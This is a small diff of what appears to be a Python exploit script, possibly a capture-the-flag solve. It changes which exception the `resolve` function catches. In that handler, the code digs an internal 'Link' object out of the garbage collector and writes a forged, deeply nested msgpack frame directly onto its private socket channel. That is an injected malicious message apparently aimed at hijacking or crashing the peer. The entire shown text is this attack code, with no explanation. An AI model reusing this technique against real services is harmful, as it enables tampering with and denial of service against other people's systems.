@@ -22,7 +22,7 @@ def visit_now(url, delay):
 async def resolve(thing):
     try:
         return await thing if inspect.isawaitable(thing) else thing
-    except ValueError:
+    except AttributeError:
         link = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Link")
         body = b"\x92\xa8returned" + b"\x92\xa1l\x91" * 100_000 + b"\xc0"
         link._channel.sendall(struct.pack(">I", len(body)) + body)
